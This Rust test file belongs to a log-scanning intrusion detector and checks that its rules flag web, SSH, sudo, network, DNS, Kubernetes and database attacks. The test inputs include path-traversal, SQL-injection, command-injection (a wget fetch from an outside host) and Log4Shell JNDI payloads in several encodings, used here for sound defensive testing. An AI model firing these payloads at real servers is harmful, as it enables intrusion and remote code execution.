use super::*;
use crate::read::Reader;

/// What is found in these lines: the detectors' ids and subjects.
fn found(lines: impl IntoIterator<Item = impl AsRef<str>>) -> Vec<String> {
    let (mut reader, mut scanner) = (Reader::default(), Scanner::default());
    let mut all = Vec::new();
    for line in lines {
        let line = line.as_ref().as_bytes();
        let entry = reader.read(line, None);
        all.extend(scanner.scan(&entry, line).into_iter().map(|sign| format!("{} {}", sign.meta.id, sign.subject)));
    }
    all
}

fn repeated(times: u64, line: impl Fn(u64) -> String) -> Vec<String> {
    found((0..times).map(line))
}

/// `12:MM:SS`, so many seconds after noon.
fn clock(seconds: u64) -> String {
    format!("{:02}:{:02}:{:02}", 12 + seconds / 3600, seconds / 60 % 60, seconds % 60)
}

fn request(seconds: u64, client: &str, request: &str, status: u16, agent: &str) -> String {
    format!("{client} - - [10/Dec/2023:{} +0000] \"{request}\" {status} 12 \"-\" \"{agent}\"", clock(seconds))
}

fn get(target: &str) -> Vec<String> {
    found([request(0, "192.0.2.7", &format!("GET {target} HTTP/1.1"), 404, "Mozilla/5.0")])
}

#[test]
fn attacks_on_a_web_server_fire_however_they_are_encoded() {
    for (target, id) in [
        ("/../../../../etc/passwd", "web-path-traversal"),
        ("/a/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "web-path-traversal"),
        ("/a/%252e%252e%252f%252e%252e%252fetc/shadow", "web-path-traversal"),
        ("/download?file=..%5c..%5cwindows%5cwin.ini", "web-path-traversal"),
        ("/cgi/%c0%ae%c0%ae/%c0%ae%c0%ae/x", "web-path-traversal"),
        ("/index.php?page=php://filter/convert.base64-encode/resource=index", "web-path-traversal"),
        ("/item?id=1%20UNION%20SELECT%20user,password%20FROM%20users", "web-sql-injection"),
        ("/item?id=1/**/union/**/all/**/select/**/1,2,3", "web-sql-injection"),
        ("/item?id=1'+or+'1'='1", "web-sql-injection"),
        ("/item?id=1%27%20AND%20SLEEP(5)--", "web-sql-injection"),
        ("/item?id=1%2527%2520or%25201%253D1", "web-sql-injection"),
        ("/ping?host=127.0.0.1;wget+http://198.51.100.9/x.sh", "web-command-injection"),
        ("/ping?host=%60id;%60", "web-command-injection"),
        ("/ping?host=1%7Ccat%20/tmp/x", "web-command-injection"),
        ("/?x=$%7Bjndi:ldap://198.51.100.9/a%7D", "web-jndi-lookup"),
        ("/?x=%24%7B%24%7Blower:j%7Dndi:ldap://198.51.100.9/a%7D", "web-jndi-lookup"),
        ("/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.9/a}", "web-jndi-lookup"),
        ("/.env", "web-scanner"),
        ("/.git/config", "web-scanner"),
    ] {
        let all = get(target);
        assert!(all.contains(&format!("{id} 192.0.2.7")), "{target}: {all:?}");
    }
    assert_eq!(
        found([request(0, "192.0.2.7", "GET / HTTP/1.1", 200, "${jndi:ldap://198.51.100.9/a}")]),
        ["web-jndi-lookup 192.0.2.7"]
    );
    assert_eq!(found([request(0, "192.0.2.7", "GET / HTTP/1.1", 200, "sqlmap/1.7")]), ["web-scanner 192.0.2.7"]);
    assert_eq!(found(["2023-12-10 12:00:00,000 INFO [main] com.example.App: name ${jndi:ldap://x/a}"]).len(), 1);
}

#[test]
fn ordinary_requests_do_not() {
    for target in [
        "/",
        "/a/../b.css",
        "/search?q=union+of+select+committees",
        "/search?q=rock+and+roll&page=1",
        "/search?q=O%27Brien+or+O%27Neill",
        "/search?q=how+to+use+wget",
        "/search?q=cats;dogs",
        "/calc?q=1%2B1%3D2",
        "/shop?filter=price%3C10;color=red&sort=id",
        "/static/app.js?v=${version}",
        "/environment/.environment",
        "/docs/etc/passwords-and-you",
        "/redirect?to=https%3A%2F%2Fexample.com%2Fa%3Fb%3D1",
        "/100%25-cotton",
        "/search?q=sleep+well",
        "/q?a=%E4%BD%A0%E5%A5%BD&b=%FF",
    ] {
        assert_eq!(get(target), Vec::<String>::new(), "{target}");
    }
}

#[test]
fn who_asks_for_what_there_is_not_again_and_again_is_a_scanner() {
    let scan = |number: u64| request(number, "192.0.2.7", &format!("GET /backup-{number}.zip HTTP/1.1"), 404, "x");
    assert_eq!(repeated(30, scan), ["web-scanner 192.0.2.7"]);
    let favicon = |number: u64| request(number, "192.0.2.7", "GET /favicon.ico HTTP/1.1", 404, "x");
    assert!(repeated(300, favicon).is_empty(), "one thing that is missing is a broken link");
    let slow = |number: u64| request(number * 60, "192.0.2.7", &format!("GET /{number}.zip HTTP/1.1"), 404, "x");
    assert!(repeated(100, slow).is_empty());
}

#[test]
fn logins_that_fail_in_numbers_are_stuffing() {
    let login = |status| move |n: u64| request(n, "2001:db8::7", "POST /api/v1/login HTTP/1.1", status, "x");
    assert_eq!(repeated(40, login(401)), ["web-credential-stuffing 2001:db8::7"]);
    assert!(repeated(40, login(200)).is_empty());
    assert!(repeated(15, login(401)).is_empty());
    let many = |n: u64| request(n, &format!("192.0.2.{n}"), "POST /login HTTP/1.1", 401, "x");
    assert!(repeated(40, many).is_empty(), "each once");
}

#[test]
fn the_address_of_a_forwarded_request_is_the_one_that_the_last_proxy_saw() {
    let line = |list: &str| {
        format!(
            "10.0.0.9 - - [10/Dec/2023:12:00:00 +0000] \"GET /../../etc/passwd HTTP/1.1\" 400 1 \"-\" \"x\" \"{list}\""
        )
    };
    assert_eq!(found([line("203.0.113.9, 198.51.100.7, 10.0.0.2")]), ["web-path-traversal 198.51.100.7"]);
    assert_eq!(found([line("-")]), ["web-path-traversal 10.0.0.9"]);
    let outside = line("203.0.113.9").replace("10.0.0.9", "192.0.2.44");
    assert_eq!(found([outside]), ["web-path-traversal 192.0.2.44"], "who is no proxy accuses nobody else");
}

fn sshd(seconds: u64, message: &str) -> String {
    format!("Dec 10 {} web sshd[{}]: {message}", clock(seconds), 1000 + seconds)
}

#[test]
fn logins_over_ssh() {
    let year = "2023-12-10T11:59:59Z web start: x".to_owned();
    let lines = |user: fn(u64) -> String| {
        let failed =
            (0..12).map(move |n| sshd(n, &format!("Failed password for {} from 192.0.2.7 port 22 ssh2", user(n))));
        found(std::iter::once(year.clone()).chain(failed))
    };
    assert_eq!(lines(|_| "root".to_owned()), ["ssh-brute-force 192.0.2.7"]);
    assert_eq!(
        lines(|n| format!("invalid user u{n}")),
        ["ssh-password-spraying 192.0.2.7", "ssh-brute-force 192.0.2.7"]
    );
    let few = (0..4).map(|n| sshd(n, &format!("Failed password for u{n} from 192.0.2.7 port 22 ssh2")));
    assert!(found(few).is_empty());
}

#[test]
fn old_style_logins_that_pam_refuses_are_counted_and_new_ones_once() {
    let failure = "authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=192.0.2.7  user=root";
    let old = |n: u64| format!("Jun 14 {} combo sshd(pam_unix)[{n}]: {failure}", clock(n));
    let with_year = |line: &dyn Fn(u64) -> String| {
        found(std::iter::once("2005-06-14T11:00:00Z x y: z".to_owned()).chain((0..12).map(line)))
    };
    assert_eq!(with_year(&old), ["host-login-guessing 192.0.2.7"]);
    let new = |n: u64| format!("Jun 14 {} combo sshd[{n}]: pam_unix(sshd:auth): {failure}", clock(n));
    assert!(with_year(&new).is_empty(), "sshd writes lines of its own");
    let local = |n: u64| {
        format!("Jun 14 {} combo login(pam_unix)[{n}]: {}", clock(n), failure.replace("rhost=192.0.2.7", "rhost="))
    };
    assert!(with_year(&local).is_empty());
    let forged = |n: u64| {
        format!(
            "Jun 14 {} combo app[{n}]: authentication failure; rhost=203.0.113.9 user=x rhost=192.0.2.{n}",
            clock(n)
        )
    };
    assert!(with_year(&forged).is_empty(), "the last field of the name counts");
}

#[test]
fn connections_in_a_burst() {
    let line = |gap: u64| {
        move |n: u64| {
            format!(
                "2005-06-14T{}Z combo ftpd[{n}]: connection from 192.0.2.7 () at Tue Jun 14 12:00:00 2005",
                clock(n * gap)
            )
        }
    };
    assert_eq!(repeated(20, line(1)), ["host-connection-burst 192.0.2.7"]);
    assert!(repeated(20, line(60)).is_empty());
    assert_eq!(
        found(["2005-06-14T12:00:00Z combo ftpd[1]: ANONYMOUS FTP LOGIN FROM 192.0.2.7, (anonymous)"]),
        ["host-anonymous-ftp-login 192.0.2.7"]
    );
    assert!(found(["2005-06-14T12:00:00Z combo ftpd[1]: ANONYMOUS FTP LOGIN FROM 10.0.0.7, (anonymous)"]).is_empty());
}

#[test]
fn sudo_and_its_list() {
    let sudo = |message: &str| {
        found([
            format!("Dec 10 2023 12:00:00 web sudo: {message}"),
            format!("2023-12-10T12:00:00Z web sudo[7]: {message}"),
        ])
    };
    let tail = "TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=";
    for (message, expected) in [
        (format!("bob : 3 incorrect password attempts ; {tail}/bin/ls"), Some("sudo-failures bob")),
        (format!("bob : 1 incorrect password attempt ; {tail}/bin/ls"), None),
        (format!("bob : user NOT in sudoers ; {tail}/bin/ls"), Some("sudo-by-unlisted-user bob")),
        (format!("bob : {tail}/usr/sbin/visudo"), Some("sudoers-changed bob")),
        (format!("bob : {tail}/usr/bin/tee /etc/sudoers.d/bob"), Some("sudoers-changed bob")),
        (format!("bob : {tail}/usr/sbin/usermod -aG docker,wheel mallory"), Some("sudoers-changed bob")),
        (format!("bob : {tail}/usr/sbin/usermod -aG docker mallory"), None),
        (format!("bob : {tail}/bin/cat /etc/sudoers"), None),
        (format!("bob : {tail}/usr/bin/apt-get update"), None),
        ("pam_unix(sudo:session): session opened for user root(uid=0) by bob(uid=1000)".to_owned(), None),
    ] {
        let all = sudo(&message);
        assert_eq!(all.first().map(String::as_str), expected, "{message}");
        assert!(all.len() <= 1, "{message}: {all:?}");
    }
    let added = found([
        "2023-12-10T12:00:00Z web usermod[9]: add 'mallory' to group 'sudo'",
        "2023-12-10T12:00:00Z web usermod[9]: add 'eve' to group 'video'",
    ]);
    assert_eq!(added, ["sudoers-changed mallory"]);
    let audited = |kind: &str, name: &str| {
        found([format!(
            "type=PATH msg=audit(1702209600.123:456): item=1 name=\"{name}\" inode=1 nametype={kind} cap_fp=0"
        )])
    };
    assert_eq!(audited("CREATE", "/etc/sudoers.d/x"), ["sudoers-changed /etc/sudoers.d/x"]);
    assert!(audited("NORMAL", "/etc/sudoers.d/x").is_empty() && audited("CREATE", "/etc/motd").is_empty());
}

#[test]
fn secrets_are_found_and_never_shown() {
    // Put together here, so that this file holds none.
    let key = ["AKIA", "QX7T4ZL2PWRD5NVM"].concat();
    let token = ["ghp_", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"].concat();
    let jwt = ["eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiIxMjM0In0", "c2lnbmF0dXJlLW9mLWl0"].join(".");
    for (line, secret) in [
        (format!("using key {key} for upload"), key.as_str()),
        (format!("clone https://x-access-token:{token}@example.com/r"), token.as_str()),
        (format!("Authorization: Bearer {jwt}"), jwt.as_str()),
        ("login with password=hunter2-Tr0ub4dor failed".to_owned(), "hunter2-Tr0ub4dor"),
        (r#"{"level":"info","msg":"x","client_secret":"9f8a7b6c5d4e3f2a"}"#.to_owned(), "9f8a7b6c5d4e3f2a"),
        ("dsn postgres://app:s3cr3t-Pa55@db.internal/x".to_owned(), "s3cr3t-Pa55"),
        ("-----BEGIN RSA PRIVATE KEY----- MIIEow".to_owned(), "MIIEow"),
    ] {
        let (mut reader, mut scanner) = (Reader::default(), Scanner::default());
        let signs = scanner.scan(&reader.read(line.as_bytes(), None), line.as_bytes());
        assert!(signs.iter().any(|sign| sign.meta.id == "secret-in-logs"), "{line}");
        for sign in &signs {
            assert!(!sign.why.contains(secret) && !sign.subject.contains(secret), "{}", sign.why);
        }
        assert!(!mask(&line).contains(secret), "{}", mask(&line));
    }
    for line in [
        "password=******** accepted",
        "password: required",
        "password for user root was wrong",
        "secret=${DB_SECRET} is unset",
        "token bucket: 5 of 10",
        "GET /reset-password?step=2",
        "password=[redacted]",
        "an access key AKIAIOSFODNN7EXAMPLE of the manual",
        "see https://example.com:8443/a@b",
        "private_key=<masked by policy>",
    ] {
        assert!(found([line]).is_empty(), "{line}: {:?}", found([line]));
        assert_eq!(mask(line), line);
    }
}

fn flow(seconds: u64, from: &str, to: &str, ports: (u16, u16), bytes: u64, action: &str) -> String {
    let start = 1_702_209_600 + seconds;
    format!("2 111122223333 eni-0a {from} {to} {} {} 6 10 {bytes} {start} {} {action} OK", ports.0, ports.1, start + 59)
}

#[test]
fn scans_of_ports_and_bursts_of_rejections() {
    let scan = |n: u64| flow(n, "203.0.113.9", "10.0.0.5", (40_000, 20 + u16::try_from(n).unwrap()), 40, "REJECT");
    assert_eq!(repeated(30, scan), ["network-port-scan 203.0.113.9"]);
    let sweep = |n: u64| flow(n, "203.0.113.9", &format!("10.0.0.{n}"), (40_000, 22), 40, "REJECT");
    assert_eq!(repeated(30, sweep), ["network-port-scan 203.0.113.9"]);
    let one = |n: u64| flow(n, "203.0.113.9", "10.0.0.5", (40_000, 22), 40, "REJECT");
    assert!(repeated(100, one).is_empty());
    assert_eq!(repeated(301, |n| one(n / 2)), ["network-rejected-burst 203.0.113.9"]);
    let accepted = |n: u64| flow(n, "203.0.113.9", "10.0.0.5", (40_000, 20 + u16::try_from(n).unwrap()), 40, "ACCEPT");
    assert!(repeated(30, accepted).is_empty());
    let late = |n: u64| flow(n, "203.0.113.9", "10.0.0.5", (443, 40_000 + u16::try_from(n).unwrap()), 40, "REJECT");
    assert!(repeated(60, late).is_empty(), "late answers of a server");
}

#[test]
fn columns_in_any_order_are_read_by_their_header() {
    let header = "srcaddr dstaddr dstport action start version pkt-srcaddr flow-direction reject-reason".to_owned();
    let lines =
        (0..30).map(|n| format!("10.9.9.9 10.0.0.5 {} REJECT {} 5 203.0.113.9 ingress -", 20 + n, 1_702_209_600 + n));
    assert_eq!(found(std::iter::once(header).chain(lines)), ["network-port-scan 203.0.113.9"]);
}

#[test]
fn beacons_and_spikes() {
    let beacon = |jitter: u64| {
        move |n: u64| flow(n * 300 + (n * 7919 % (jitter + 1)), "10.0.0.5", "203.0.113.9", (50_000, 443), 800, "ACCEPT")
    };
    assert_eq!(repeated(14, beacon(3)), ["network-beaconing 10.0.0.5"]);
    assert!(repeated(40, beacon(200)).is_empty(), "people and queues are irregular");
    let clocks = |n: u64| flow(n * 300, "10.0.0.5", "203.0.113.9", (50_000, 123), 76, "ACCEPT");
    assert!(repeated(40, clocks).is_empty());
    let answers = |n: u64| flow(n * 300, "10.0.0.5", "203.0.113.9", (443, 50_000), 800, "ACCEPT");
    assert!(repeated(40, answers).is_empty(), "a client's polling is not the server's beacon");
    let sent = |last: u64| {
        move |n: u64| {
            let bytes = if n == 5 { last } else { 5_000_000 };
            flow(n * 3600 + n * n * 97, "10.0.0.5", "203.0.113.9", (50_000, 443), bytes, "ACCEPT")
        }
    };
    assert_eq!(repeated(6, sent(3_000_000_000)), ["network-outbound-spike 10.0.0.5 to 203.0.113.9"]);
    assert!(repeated(6, sent(40_000_000)).is_empty());
    let backup =
        |n: u64| flow(n * 3600 + n * n * 97, "10.0.0.5", "203.0.113.9", (50_000, 443), 2_000_000_000, "ACCEPT");
    assert!(repeated(10, backup).is_empty(), "a host that always sends much");
}

fn query(seconds: u64, name: &str, code: &str) -> String {
    serde_json::json!({
        "version": "1.1", "account_id": "111122223333", "region": "eu-west-1", "vpc_id": "vpc-1",
        "query_timestamp": format!("2023-12-10T{}Z", clock(seconds)), "query_name": name, "query_type": "A",
        "query_class": "IN", "rcode": code, "answers": [], "srcaddr": "10.0.0.5", "srcport": "5353",
        "transport": "UDP", "srcids": {"instance": "i-0abc"},
    })
    .to_string()
}

/// Letters that look random and are the same every time.
fn noise(seed: u64, length: usize, of: &[u8]) -> String {
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let mut one = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        char::from(of[usize::try_from((state >> 20) % of.len() as u64).unwrap()])
    };
    (0..length).map(|_| one()).collect()
}

#[test]
fn what_names_are_asked_for() {
    let base32 = b"abcdefghijklmnopqrstuvwxyz234567";
    let tunnel = |n: u64| query(n, &format!("{}.t.example.org.", noise(n + 1, 50, base32)), "NOERROR");
    assert_eq!(repeated(40, tunnel), ["dns-tunneling i-0abc"]);
    let cdn = |n: u64| query(n, &format!("{}.cloudfront.net.", noise(n + 1, 50, base32)), "NOERROR");
    assert!(repeated(40, cdn).is_empty());
    let same = |n: u64| query(n, &format!("{}.t.example.org.", noise(5 + n % 3, 50, base32)), "NOERROR");
    assert!(repeated(90, same).is_empty(), "three names");
    let generated = |n: u64| {
        query(
            n,
            &format!("{}.example-{}.com.", "", n)
                .replace(".example-", &noise(n + 1, 14, b"bcdfghjklmnpqrstvwxz"))
                .replace(&format!("{n}.com"), ".com"),
            "NXDOMAIN",
        )
    };
    assert_eq!(repeated(20, generated), ["dns-generated-domains i-0abc"]);
    let names = [
        "kitchen-table.com",
        "riverside-school.org",
        "mountainview.net",
        "photography.com",
        "application.org",
        "weatherstation.com",
    ];
    let typos = |n: u64| query(n, names[usize::try_from(n).unwrap() % names.len()], "NXDOMAIN");
    assert!(repeated(60, typos).is_empty());
    assert_eq!(found([query(0, "xmr-eu1.nanopool.org.", "NOERROR")]), ["dns-mining-pool i-0abc"]);
    assert!(
        found([query(0, "nanopool.org.example.com.", "NOERROR"), query(0, "mynanopool.org", "NOERROR")]).is_empty()
    );
}

#[allow(clippy::needless_pass_by_value, reason = "the calls are shorter")]
fn audit(user: &str, verb: &str, uri: &str, object: serde_json::Value, code: u16, body: serde_json::Value) -> String {
    serde_json::json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "auditID": "a-1", "stage": "ResponseComplete",
        "requestURI": uri, "verb": verb, "user": {"username": user, "groups": []}, "sourceIPs": ["203.0.113.9"],
        "objectRef": object, "responseStatus": {"code": code}, "requestObject": body,
        "requestReceivedTimestamp": "2023-12-10T12:00:00.000000Z",
    })
    .to_string()
}

#[test]
fn what_happens_in_a_cluster() {
    use serde_json::json;
    let pod = json!({"resource": "pods", "namespace": "shop", "name": "web-1", "subresource": "exec"});
    let exec = |user: &str, code| {
        found([audit(user, "create", "/api/v1/namespaces/shop/pods/web-1/exec", pod.clone(), code, json!(null))])
    };
    assert_eq!(exec("mallory", 101), ["kubernetes-exec-into-pod shop/web-1"]);
    assert!(exec("mallory", 403).is_empty());
    assert!(exec("system:serviceaccount:kube-system:generic-garbage-collector", 101).is_empty());

    let anonymous = |uri: &str, code| {
        found([audit("system:anonymous", "list", uri, json!({"resource": "secrets"}), code, json!(null))])
    };
    assert_eq!(anonymous("/api/v1/secrets", 200), ["kubernetes-anonymous-access 203.0.113.9"]);
    assert!(
        anonymous("/api/v1/secrets", 403).is_empty()
            && anonymous("/healthz", 200).is_empty()
            && anonymous("/version?timeout=32s", 200).is_empty()
    );

    let binding = |role: &str, code| {
        let body = json!({"roleRef": {"name": role}, "subjects": [{"kind": "User", "name": "mallory"}]});
        found([audit(
            "bob",
            "create",
            "/apis/rbac",
            json!({"resource": "clusterrolebindings", "name": "b"}),
            code,
            body,
        )])
    };
    assert_eq!(binding("cluster-admin", 201), ["kubernetes-cluster-admin-bound b"]);
    assert!(binding("view", 201).is_empty() && binding("cluster-admin", 403).is_empty());

    let created = |namespace: &str, spec: serde_json::Value| {
        let object = json!({"resource": "pods", "namespace": namespace, "name": "p"});
        found([audit("bob", "create", "/api/v1/pods", object, 201, json!({"spec": spec}))])
    };
    let plain =
        json!({"containers": [{"image": "a"}], "volumes": [{"emptyDir": {}}, {"hostPath": {"path": "/var/log/app"}}]});
    let bad = [
        json!({"containers": [{"image": "a", "securityContext": {"privileged": true}}]}),
        json!({"containers": [{"image": "a"}], "hostPID": true}),
        json!({"containers": [{"image": "a"}], "volumes": [{"hostPath": {"path": "/"}}]}),
    ];
    for spec in &bad {
        assert_eq!(created("shop", spec.clone()), ["kubernetes-privileged-pod shop/p"]);
        assert!(created("kube-system", spec.clone()).is_empty());
    }
    assert!(created("shop", plain).is_empty());
}

#[test]
fn logins_to_databases() {
    let postgres = |n: u64| {
        format!(
            "2023-12-10 {} UTC:203.0.113.9(4711):app@shop:[{n}]:FATAL:  password authentication failed for user \"x 198.51.100.1\"",
            clock(n)
        )
    };
    assert_eq!(repeated(12, postgres), ["database-login-guessing 203.0.113.9"], "the name accuses nobody");
    let mysql = |n: u64| {
        format!(
            "2023-12-10T{}.000000Z {n} [Note] [MY-010926] [Server] Access denied for user 'root'@'203.0.113.9' (using password: YES)",
            clock(n)
        )
    };
    assert_eq!(repeated(12, mysql), ["database-login-guessing 203.0.113.9"]);
    let audit = |n: u64| format!("20231210 {},db-1,root,203.0.113.9,{n},0,FAILED_CONNECT,,,1045", clock(n));
    assert_eq!(repeated(12, audit), ["database-login-guessing 203.0.113.9"]);
    assert!(repeated(5, mysql).is_empty());
    let fine = |n: u64| format!("20231210 {},db-1,root,203.0.113.9,{n},0,CONNECT,,,0", clock(n));
    assert!(repeated(50, fine).is_empty());
}

#[test]
fn firewalls_balancers_and_distributions_are_read_too() {
    let waf = serde_json::json!({"timestamp": 1_702_209_600_000_i64, "webaclId": "arn:x", "action": "BLOCK", "httpRequest": {
        "clientIp": "203.0.113.9", "uri": "/a", "args": "id=1%27+or+%271%27=%271", "httpMethod": "GET", "headers": [{"name": "user-agent", "value": "x"}]}});
    assert_eq!(found([waf.to_string()]), ["web-sql-injection 203.0.113.9"]);
    let alb = "https 2023-12-10T12:00:00.000000Z app/lb/1 203.0.113.9:4711 10.0.0.5:80 0.0 0.0 0.0 404 404 1 2 \"GET https://example.com:443/../../etc/passwd HTTP/1.1\" \"curl/8\" ECDHE TLSv1.2 arn \"Root=1\" \"-\" \"-\" 0 2023-12-10T12:00:00Z \"forward\" \"-\" \"-\"";
    assert_eq!(found([alb]), ["web-path-traversal 203.0.113.9"]);
    let fields = "#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)";
    let line = "2023-12-10\t12:00:00\t203.0.113.9\tGET\t/.env\t-\t403\tMozilla";
    assert_eq!(found(["#Version: 1.0", fields, line]), ["web-scanner 203.0.113.9"]);
    let json = r#"{"time":"2023-12-10T12:00:00Z","remote_addr":"203.0.113.9","request":"GET /.git/config HTTP/1.1","status":404}"#;
    assert_eq!(found([json]), ["web-scanner 203.0.113.9"]);
    let nginx = "2023/12/10 12:00:00 [error] 7#7: *1 access forbidden by rule, client: 203.0.113.9, server: x, request: \"GET /.env HTTP/1.1\", host: \"x\"";
    assert_eq!(found([nginx]), ["web-scanner 203.0.113.9"]);
}

#[test]
fn a_server_that_refuses_the_same_to_many_is_probed() {
    let line = |from: fn(u64) -> u64| {
        move |n: u64| {
            format!(
                "[Sun Dec 04 {} 2005] [error] [client 192.0.2.{}] Directory index forbidden by rule: /var/www/html/",
                clock(n * 60),
                from(n)
            )
        }
    };
    assert_eq!(
        repeated(32, line(|n| n)),
        ["web-probed-from-many-addresses directory index forbidden by rule: /var/www/html/"]
    );
    assert!(repeated(100, line(|n| n % 5)).is_empty());
}

#[test]
fn every_id_is_there_once() {
    let mut ids: Vec<&str> =
        SIGNATURES.iter().map(|meta| meta.id).chain(LOG_DETECTORS.iter().map(|d| d.meta().id)).collect();
    let all = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), all);
}

#[test]
fn every_detector_stands_in_the_documentation() {
    let page = include_str!("../../../../docs/logs.md");
    for meta in SIGNATURES {
        assert!(page.contains(&format!("| `{}` | {} |", meta.id, meta.severity)), "{}", meta.id);
    }
}
